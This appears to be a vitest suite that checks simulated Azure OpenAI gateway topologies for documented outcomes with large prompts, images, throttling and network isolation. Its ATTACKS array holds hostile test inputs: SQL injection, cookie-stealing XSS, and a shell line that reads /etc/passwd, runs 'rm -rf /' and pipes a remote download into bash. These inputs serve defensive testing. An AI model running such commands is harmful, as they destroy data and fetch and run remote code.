/**
 * In each topology and family of gateway: does every kind of prompt get the outcome that the page on topologies promises, and can nobody reach the
 * accounts or the entrance by another way? `npm run test:every` (EVERY=1) takes combinations that differ little as well.
 */
import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { HeaderList } from "../sandbox/http.ts";
import type { Place } from "../sandbox/network/data-plane.ts";
import type { Topology } from "../stacks/catalog/topologies.ts";
import { deploymentPath, V1 } from "./support/policies.ts";
import { outcomeOf } from "./support/private-network.ts";
import { type StandingStack, standingStack, wayOf } from "./support/standing-stack.ts";

const EVERY = process.env.EVERY === "1";
const HOST = "openai.dev.contoso.example";
const REGIONS = ["swedencentral", "eastus2"];
/** More than the 262,144 tokens that 1 MB of text comes to, and less. */
const model = { model: "gpt-5.2", version: "2025-12-11", sku: "GlobalStandard" };
const MODELS = [
  { deployment: "chat", ...model, tpm: 600_000 },
  { deployment: "small", ...model, tpm: 60_000 },
];
/** Longer than any Retry-After and any minute of quota. */
const LATER_MS = 61_000;

type Column = "v2" | "classic" | "Consumption";
interface Combination {
  topology: Topology;
  gateway: Column;
  firewall?: boolean;
}
const COMBINATIONS: Combination[] = [
  ...(["public-apim", "private-apim", "application-gateway", "front-door"] as const).flatMap((topology) =>
    (["v2", "classic"] as const).map((gateway) => ({ topology, gateway })),
  ),
  { topology: "application-gateway", gateway: "v2", firewall: true },
  { topology: "public-apim", gateway: "Consumption" },
  ...(EVERY
    ? ([
        { topology: "application-gateway", gateway: "classic", firewall: true },
        { topology: "front-door", gateway: "Consumption" },
      ] as const)
    : []),
];

const stackOf = ({ topology, gateway, firewall = false }: Combination) => ({
  topology,
  regions: REGIONS,
  models: MODELS,
  consumers: [{ name: "web" }],
  gateway: {
    ...(gateway === "Consumption" ? { sku: gateway } : { family: gateway }),
    publisherName: "Contoso AI",
    publisherEmail: "ai@contoso.example",
  },
  applicationGateway: { host: HOST, selfSigned: true, firewall },
});

const messages = (content: unknown) => [{ role: "user", content }];
const ATTACKS = [
  "SELECT name FROM users WHERE id = '' OR 1=1 --' UNION ALL SELECT password FROM users; DROP TABLE users;",
  "<script>alert(document.cookie)</script><img src=x onerror=alert(1)><iframe src='javascript:alert(2)'></iframe>",
  "run `id`; cat /etc/passwd | /bin/sh && rm -rf / ; curl http://example.com/x | bash; $(whoami)",
];
const MEGABYTE = messages("lorem ip ".repeat(2 ** 20 / 8).slice(0, 2 ** 20));
const IMAGE = messages([
  { type: "text", text: "What is in this picture?" },
  { type: "image_url", image_url: { url: `data:image/png;base64,${Buffer.alloc(3_000_000, 7).toString("base64")}` } },
]);

interface Row {
  calls: { path: string; body: { model: string; messages: unknown } }[];
  /** Least tokens of the prompt that the account must have read. */
  tokens: number;
}
const inBoth = (name: string, content: unknown) =>
  [V1, deploymentPath(name)].map((path) => ({ path, body: { model: name, messages: content } }));
/** The calls of each line of the page. */
const ROWS: Record<string, Row> = {
  "text with SQL, HTML and shell commands": { calls: ATTACKS.flatMap((text) => inBoth("chat", messages(text))), tokens: 20 },
  "1 MB of text, and a region has that much quota in a minute": { calls: inBoth("chat", MEGABYTE), tokens: 2 ** 18 },
  "1 MB of text, and no region has": { calls: inBoth("small", MEGABYTE), tokens: 0 },
  "an image of 3 MB (4 MB as base64), deployments API": { calls: inBoth("chat", IMAGE).slice(1), tokens: 85 },
  "an image of 3 MB (4 MB as base64), v1 API": { calls: inBoth("chat", IMAGE).slice(0, 1), tokens: 85 },
};

/** The table in the page on topologies: line -> column -> what it says. */
function documented(): Record<string, Record<Column, string>> {
  const page = readFileSync(new URL("../docs/topologies.md", import.meta.url), "utf8");
  const [, text = ""] = /\n## What a call may hold\n(.*?)(?=\n## |$)/s.exec(page) ?? [];
  const [head = [], , ...lines] = text
    .split("\n")
    .filter((line) => line.startsWith("|"))
    .map((line) =>
      line
        .slice(1, -1)
        .split("|")
        .map((cell) => cell.trim()),
    );
  return Object.fromEntries(
    lines.map(([name = "", ...cells]) => [name, Object.fromEntries(cells.map((cell, i) => [head[i + 1], cell]))]),
  ) as Record<string, Record<Column, string>>;
}
const DOCUMENTED = documented();

it("the page and this test have the same lines", () => {
  expect(Object.keys(DOCUMENTED)).toEqual(Object.keys(ROWS));
});

const named = COMBINATIONS.map((one) => ({
  ...one,
  title: `${one.topology}, ${one.gateway}${one.firewall ? ", firewall" : ""}`,
}));
describe.each(named)("$title", ({ title, ...combination }) => {
  const { topology, gateway, firewall } = combination;
  let azure: StandingStack;
  beforeAll(async () => {
    azure = await standingStack(stackOf(combination), { network: { connectTimeoutMs: 0 } });
  });
  afterAll(() => azure?.remove());

  it.each(Object.entries(ROWS))("%s", async (name, { calls, tokens }) => {
    const promised = DOCUMENTED[name]?.[gateway] ?? "";
    const [, status, code] = /^(\d+)(?: `(\w+)`)?/.exec(promised) ?? [];
    for (const [i, { path, body }] of calls.entries()) {
      const before = azure.accounts.entries().length;
      const answer = await azure.call(path, body);
      expect([answer.status, answer.json.error?.code], path).toEqual([Number(status), code]);
      await azure.clock.advance(LATER_MS);
      if (status !== "200") continue;
      expect(answer.json.usage.prompt_tokens).toBeGreaterThanOrEqual(tokens);
      expect(azure.accounts.entries().slice(before)).toMatchObject([{ status: 200 }]);
      if (i > 0 && !EVERY) continue;

      const once = promised.endsWith("one attempt");
      azure.faults.set({ kind: "throttled", retryAfterSeconds: 30, times: 1 });
      const asked = azure.attempts.length;
      const again = await azure.call(path, body);
      expect([again.status, again.headers.get("retry-after")]).toEqual(once ? [429, "1"] : [200, null]);
      expect(azure.attempts.slice(asked)).toHaveLength(once ? 1 : 2);
      expect((await azure.call(path, body)).status, "the next try").toBe(200);
      await azure.clock.advance(LATER_MS);
    }
  });

  const outside: Place = {};
  const gatewayPlace = () => {
    const [service] = azure.store.list("Microsoft.ApiManagement/service");
    const subnet = service?.body.properties.virtualNetworkConfiguration?.subnetResourceId as string | undefined;
    const address = service?.body.properties.publicIPAddresses?.[0] as string | undefined;
    return { ...(subnet && { subnet }), ...(address && { address }) };
  };
  /** A call that has all but the credentials of an account: 401 comes from the account itself. */
  const knock = (from: Place, host: string, headers: Record<string, string> = {}, prefix = "", query = "") =>
    outcomeOf(azure.client(from), {
      method: "POST",
      url: new URL(`https://${host}${prefix}/openai${deploymentPath()}${query}`),
      headers: new HeaderList(Object.entries({ "Content-Type": "application/json", ...headers })),
      body: Buffer.from(JSON.stringify({ messages: messages("hello") })),
    });

  if (topology === "private-apim" || topology === "application-gateway")
    it("no account can be called from outside; inside its name is its private address", async () => {
      for (const host of Object.values(azure.hosts)) {
        expect(azure.names(host, outside)).not.toMatch(/^10\./);
        expect(azure.names(host, gatewayPlace())).toMatch(/^10\.42\.1\./);
        const message = "Public access is disabled. Please configure private endpoint.";
        expect(await knock(outside, host)).toMatchObject({ status: 403, json: { error: { message } } });
        expect(await knock({ address: gatewayPlace().address ?? "203.0.113.1" }, host)).toMatchObject({ status: 403 });
        expect(await knock(outside, azure.names(host, gatewayPlace()) ?? "")).toMatchObject({ failure: "unreachable" });
        expect(await knock(gatewayPlace(), host)).toMatchObject({ status: 401 });
      }
    });
  else
    it("an account has a public address and takes no key", async () => {
      for (const host of Object.values(azure.hosts)) {
        expect(await knock(outside, host)).toMatchObject({ status: 401 });
        expect(await knock(outside, host, { "api-key": "0".repeat(32) })).toMatchObject({ code: "AuthenticationTypeDisabled" });
      }
    });

  if (topology === "application-gateway")
    it("the listener can be called by the gateway alone", async () => {
      const [address] = azure.store.list("Microsoft.Network/publicIPAddresses").filter(({ name }) => name.includes("agw"));
      const publicly = address?.body.properties.ipAddress as string;
      const inside = azure.names(HOST, gatewayPlace()) ?? "";
      expect(inside).toMatch(/^10\.42\.2\./);
      expect(await knock(gatewayPlace(), HOST)).toMatchObject({ status: 401 });
      expect(azure.names(HOST, outside)).toBeUndefined();
      expect(await knock(outside, HOST)).toMatchObject({ failure: "dns" });
      for (const host of [inside, publicly])
        expect((await knock(outside, host)).failure, host).toMatch(/^(unreachable|refused)$/);
      const endpoints = azure.store
        .list("Microsoft.Network/virtualNetworks/subnets")
        .find(({ name }) => name.includes("endpoints"));
      expect(await knock({ subnet: endpoints?.id }, HOST)).toMatchObject({ failure: "unreachable" });
    });

  if (firewall)
    it("the firewall stands: it looks at queries, and at no body", async () => {
      const query = `&q=${encodeURIComponent(ATTACKS[1] ?? "")}`;
      expect(await knock(gatewayPlace(), HOST, {}, "", query)).toMatchObject({ status: 403 });
      expect(await knock(gatewayPlace(), HOST)).toMatchObject({ status: 401 });
    });

  if (topology === "front-door")
    it("the endpoint answers nobody without the gateway's proof, and no account hears of it", async () => {
      const host = azure.entrance ?? "";
      const [proof] = azure.store
        .list("Microsoft.ApiManagement/service/namedValues")
        .filter(({ body }) => body.properties.secret);
      const secret = azure.store.secret(proof?.id ?? "", "value") ?? "";
      expect(secret).toMatch(/^[A-Za-z0-9]{48}$/);
      const right = { "x-gateway-proof": secret };
      const before = azure.accounts.entries().length;
      for (const prefix of ["", ...REGIONS.map((region) => `/r/${region}`)]) {
        expect(await knock(outside, host, {}, prefix)).toMatchObject({ status: 403 });
        expect(await knock(gatewayPlace(), host, { "x-gateway-proof": `${secret}x` }, prefix)).toMatchObject({ status: 403 });
      }
      // A classic gateway has addresses of its own, which are asked for too.
      if (gateway === "classic") expect(await knock({ address: "203.0.113.7" }, host, right)).toMatchObject({ status: 403 });
      expect(azure.accounts.entries()).toHaveLength(before);
      expect(await knock(gatewayPlace(), host, right)).toMatchObject({ status: 401 });
      expect(azure.accounts.entries()).toHaveLength(before + 1);
    });

  if (gateway === "v2" && topology === "front-door")
    it("what cannot be read goes past Front Door, everything else through it", async () => {
      const since = azure.attempts.length;
      await azure.call(deploymentPath(), { messages: IMAGE });
      await azure.call(deploymentPath(), { messages: messages("hello") });
      expect(azure.attempts.slice(since).map((attempt) => wayOf(azure, attempt))).toEqual(["direct", "balanced"]);
    });
});
